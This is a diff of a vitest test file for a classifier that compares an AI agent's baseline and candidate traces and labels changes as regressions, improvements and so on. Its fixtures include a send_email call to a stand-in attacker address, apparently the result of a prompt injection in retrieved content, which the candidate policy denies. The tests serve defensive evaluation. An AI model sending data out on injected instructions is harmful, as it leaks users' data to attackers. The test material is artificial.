@@ -2,50 +2,50 @@ import {describe, expect, it} from 'vitest'
 import {classifyRequest} from '../../src/diff/classify.js'
 import {diffRequest} from '../../src/diff/request-diff.js'
 import type {RequestTrace} from '../../src/runtime/trace.js'
-import {base, call, decision, guard, trace} from './trace-builder.js'
+import {baseTrace, decision, guardrail, toolCall, trace} from '../factories/index.js'
 
 const classify = (b: RequestTrace, c: RequestTrace) => classifyRequest(diffRequest(b, c))
 const codes = (b: RequestTrace, c: RequestTrace) => classify(b, c).reasons.map((r) => r.code)
 
-const lookup = call('lookup_order', {order_id: 'O1'})
-const refund = (amount: number, over = {}) => call('issue_refund', {order_id: 'O1', amount}, {risk: 'write_high', idempotency_key: 'k1', ...over})
-const email = (over = {}) => call('send_email', {to: 'attacker@evil.test', body: 'data'}, {risk: 'write_low', ...over})
+const lookup = toolCall('lookup_order', {order_id: 'O1'})
+const refund = (amount: number, over = {}) => toolCall('issue_refund', {order_id: 'O1', amount}, {risk: 'write_high', idempotency_key: 'k1', ...over})
+const email = (over = {}) => toolCall('send_email', {to: 'attacker@evil.test', body: 'data'}, {risk: 'write_low', ...over})
 
 describe('classifyRequest', () => {
   it('same: nothing differs', () => {
     const t = {tool_calls: [lookup], policy_decisions: [decision('mid_run', 'lookup_order', 'allow', 'POLICY_DEFAULT')]}
-    expect(classify(base(t), trace(t))).toEqual({class: 'same', reasons: [], noise: []})
+    expect(classify(baseTrace(t), trace(t))).toEqual({class: 'same', reasons: [], noise: []})
   })
 
   it('benign: only the wording of the answer and a small latency change', () => {
-    const r = classify(base({latency_ms: 1000}), trace({latency_ms: 1150, final_answer: 'Order ORD-1 shipped yesterday.'}))
+    const r = classify(baseTrace({latency_ms: 1000}), trace({latency_ms: 1150, final_answer: 'Order ORD-1 shipped yesterday.'}))
     expect(r.class).toBe('benign')
     expect(r.reasons.map((x) => x.code).sort()).toEqual(['answer_wording', 'latency_ms_within_tolerance'])
   })
 
   it('benign: an extra read-only call', () => {
-    const r = classify(base({tool_calls: [lookup]}), trace({tool_calls: [lookup, call('search_kb', {q: 'x'})]}))
+    const r = classify(baseTrace({tool_calls: [lookup]}), trace({tool_calls: [lookup, toolCall('search_kb', {q: 'x'})]}))
     expect(r.class).toBe('benign')
     expect(r.reasons[0]).toMatchObject({code: 'read_call_added', field: 'call:search_kb#0'})
   })
 
   it('behaviour_change: tokens beyond 20% of the base', () => {
-    const r = classify(base({input_tokens: 100, output_tokens: 100}), trace({input_tokens: 150, output_tokens: 100}))
+    const r = classify(baseTrace({input_tokens: 100, output_tokens: 100}), trace({input_tokens: 150, output_tokens: 100}))
     expect(r.class).toBe('behaviour_change')
     expect(r.reasons[0]!.code).toBe('tokens_changed')
     // exactly 20% is still within tolerance
-    expect(classify(base({input_tokens: 100, output_tokens: 100}), trace({input_tokens: 140, output_tokens: 100})).class).toBe('benign')
+    expect(classify(baseTrace({input_tokens: 100, output_tokens: 100}), trace({input_tokens: 140, output_tokens: 100})).class).toBe('benign')
   })
 
   it('behaviour_change: a low-risk write with different arguments', () => {
-    const note = (text: string) => call('add_note', {text}, {risk: 'write_low'})
-    const r = classify(base({tool_calls: [note('a')]}), trace({tool_calls: [note('b')]}))
+    const note = (text: string) => toolCall('add_note', {text}, {risk: 'write_low'})
+    const r = classify(baseTrace({tool_calls: [note('a')]}), trace({tool_calls: [note('b')]}))
     expect(r.class).toBe('behaviour_change')
     expect(r.reasons[0]).toMatchObject({code: 'args_changed', field: 'call:add_note#0.args.text'})
   })
 
   it('regression: a new policy denial, with the reason code in the message', () => {
-    const b = base({tool_calls: [lookup, refund(20)], policy_decisions: [decision('mid_run', 'issue_refund', 'allow', 'POLICY_DEFAULT')]})
+    const b = baseTrace({tool_calls: [lookup, refund(20)], policy_decisions: [decision('mid_run', 'issue_refund', 'allow', 'POLICY_DEFAULT')]})
     const c = trace({
       status: 'refused',
       tool_calls: [lookup, refund(20, {executed: false, outcome: 'denied', result: null})],
@@ -59,52 +59,52 @@ describe('classifyRequest', () => {
   })
 
   it('regression: allow → require_approval', () => {
-    const b = base({policy_decisions: [decision('mid_run', 'issue_refund', 'allow', 'POLICY_DEFAULT')]})
+    const b = baseTrace({policy_decisions: [decision('mid_run', 'issue_refund', 'allow', 'POLICY_DEFAULT')]})
     const c = trace({policy_decisions: [decision('mid_run', 'issue_refund', 'require_approval', 'REFUND_NEEDS_APPROVAL')]})
     expect(codes(b, c)).toContain('new_approval_required')
     expect(classify(b, c).class).toBe('regression')
   })
 
   it('regression: a new executed write_high call, and a new executed write of any kind', () => {
-    expect(codes(base({tool_calls: [lookup]}), trace({tool_calls: [lookup, refund(20)]}))).toContain('new_high_risk_action')
-    expect(codes(base({tool_calls: [lookup]}), trace({tool_calls: [lookup, email()]}))).toContain('new_write')
-    expect(classify(base({tool_calls: [lookup]}), trace({tool_calls: [lookup, email()]})).class).toBe('regression')
+    expect(codes(baseTrace({tool_calls: [lookup]}), trace({tool_calls: [lookup, refund(20)]}))).toContain('new_high_risk_action')
+    expect(codes(baseTrace({tool_calls: [lookup]}), trace({tool_calls: [lookup, email()]}))).toContain('new_write')
+    expect(classify(baseTrace({tool_calls: [lookup]}), trace({tool_calls: [lookup, email()]})).class).toBe('regression')
   })
 
   it('regression: an executed write_high call with different arguments', () => {
-    const r = classify(base({tool_calls: [refund(20)]}), trace({tool_calls: [refund(2000)]}))
+    const r = classify(baseTrace({tool_calls: [refund(20)]}), trace({tool_calls: [refund(2000)]}))
     expect(r.class).toBe('regression')
     expect(r.reasons[0]).toMatchObject({code: 'high_risk_args_changed', field: 'call:issue_refund#0.args.amount'})
   })
 
   it('regression: a new budget hit', () => {
-    const r = classify(base(), trace({budget_hits: ['max_steps']}))
+    const r = classify(baseTrace(), trace({budget_hits: ['max_steps']}))
     expect(r).toMatchObject({class: 'regression', reasons: [{code: 'new_budget_hit', field: 'budget:max_steps'}]})
   })
 
   it('regression: the request no longer completes', () => {
     for (const to of ['refused', 'failed', 'budget_exceeded', 'needs_approval'] as const) {
-      expect(classify(base({status: 'completed'}), trace({status: to})).reasons[0]!.code).toBe('status_worse')
-      expect(classify(base({status: 'escalated'}), trace({status: to})).class).toBe('regression')
+      expect(classify(baseTrace({status: 'completed'}), trace({status: to})).reasons[0]!.code).toBe('status_worse')
+      expect(classify(baseTrace({status: 'escalated'}), trace({status: to})).class).toBe('regression')
     }
   })
 
   it('regression: a new high-severity guardrail failure after the model; a pre-model flag is not one', () => {
-    const bundleBase = base({side: 'baseline'})
-    expect(classify(bundleBase, trace({guardrails: [guard('post_action', 'partial_write', false, 'high')]})).class).toBe('regression')
-    expect(classify(bundleBase, trace({guardrails: [guard('post_action', 'write_unconfirmed', false, 'low')]})).class).toBe('benign')
-    expect(classify(bundleBase, trace({guardrails: [guard('pre_model', 'injection_in_retrieved', false, 'high')]})).class).toBe('behaviour_change')
+    const bundleBase = baseTrace({side: 'baseline'})
+    expect(classify(bundleBase, trace({guardrails: [guardrail('post_action', 'partial_write', false, 'high')]})).class).toBe('regression')
+    expect(classify(bundleBase, trace({guardrails: [guardrail('post_action', 'write_unconfirmed', false, 'low')]})).class).toBe('benign')
+    expect(classify(bundleBase, trace({guardrails: [guardrail('pre_model', 'injection_in_retrieved', false, 'high')]})).class).toBe('behaviour_change')
   })
 
   it('against recorded production, guardrail findings are not changes: production records none', () => {
-    const r = classify(base(), trace({guardrails: [guard('mid_run', 'tool.rbac', false, 'high'), guard('pre_model', 'retrieval.tenant', false, 'high')]}))
+    const r = classify(baseTrace(), trace({guardrails: [guardrail('mid_run', 'tool.rbac', false, 'high'), guardrail('pre_model', 'retrieval.tenant', false, 'high')]}))
     expect(r.class).toBe('benign')
     expect(r.reasons.map((x) => x.code)).toEqual(['guardrail_unrecorded', 'guardrail_unrecorded'])
   })
 
   it('improvement: the base executed an injected send_email the candidate policy denies', () => {
-    const flagged = [guard('pre_model', 'injection_in_retrieved', false, 'high')]
-    const b = base({tool_calls: [lookup, email()], policy_decisions: [decision('mid_run', 'send_email', 'allow', 'POLICY_DEFAULT')]})
+    const flagged = [guardrail('pre_model', 'injection_in_retrieved', false, 'high')]
+    const b = baseTrace({tool_calls: [lookup, email()], policy_decisions: [decision('mid_run', 'send_email', 'allow', 'POLICY_DEFAULT')]})
     const c = trace({
       guardrails: flagged,
       tool_calls: [lookup, email({executed: false, outcome: 'denied', result: null})],
@@ -116,22 +116,22 @@ describe('classifyRequest', () => {
   })
 
   it('improvement: a budget the base hit and the candidate does not; failed → completed', () => {
-    expect(classify(base({budget_hits: ['max_tool_calls']}), trace()).reasons[0]!.code).toBe('budget_avoided')
-    expect(classify(base({status: 'failed'}), trace({status: 'completed'}))).toMatchObject({class: 'improvement', reasons: [{code: 'status_better'}]})
+    expect(classify(baseTrace({budget_hits: ['max_tool_calls']}), trace()).reasons[0]!.code).toBe('budget_avoided')
+    expect(classify(baseTrace({status: 'failed'}), trace({status: 'completed'}))).toMatchObject({class: 'improvement', reasons: [{code: 'status_better'}]})
   })
 
   it('a regression outranks an improvement in the same request, and both reasons are kept', () => {
-    const r = classify(base({budget_hits: ['max_tool_calls']}), trace({budget_hits: ['max_steps']}))
+    const r = classify(baseTrace({budget_hits: ['max_tool_calls']}), trace({budget_hits: ['max_steps']}))
     expect(r.class).toBe('regression')
     expect(r.reasons.map((x) => x.class)).toEqual(['regression', 'improvement'])
   })
 })
 
 describe('retries', () => {
-  const refundTry = (over = {}) => call('issue_refund', {order_id: 'O1', amount: 20}, {risk: 'write_high', idempotency_key: 'k1', ...over})
+  const refundTry = (over = {}) => toolCall('issue_refund', {order_id: 'O1', amount: 20}, {risk: 'write_high', idempotency_key: 'k1', ...over})
 
   it('a write executed twice under one idempotency key is a regression', () => {
-    const r = classify(base({tool_calls: [refundTry()]}), trace({tool_calls: [refundTry({outcome: 'partial_write'}), refundTry({attempt: 2})]}))
+    const r = classify(baseTrace({tool_calls: [refundTry()]}), trace({tool_calls: [refundTry({outcome: 'partial_write'}), refundTry({attempt: 2})]}))
     expect(r.class).toBe('regression')
     expect(r.reasons[0]).toMatchObject({code: 'duplicate_write', field: 'call:issue_refund#1'})
   })
@@ -139,7 +139,7 @@ describe('retries', () => {
   it('retrying a write the tool answered with an error is not a double write', () => {
     // a server_error answer means the write did not happen: the retry that succeeds is the only write
     const r = classify(
-      base({tool_calls: [refundTry()]}),
+      baseTrace({tool_calls: [refundTry()]}),
       trace({tool_calls: [refundTry({outcome: 'error', error: 'server_error', result: null}), refundTry({attempt: 2})]}),
     )
     expect(r.class).toBe('behaviour_change')
@@ -148,7 +148,7 @@ describe('retries', () => {
 
   it('a retry the idempotency ledger deduplicated is only a behaviour change', () => {
     const r = classify(
-      base({tool_calls: [refundTry()]}),
+      baseTrace({tool_calls: [refundTry()]}),
       trace({tool_calls: [refundTry({outcome: 'partial_write'}), refundTry({attempt: 2, executed: false, outcome: 'deduplicated'})]}),
     )
     expect(r.class).toBe('behaviour_change')
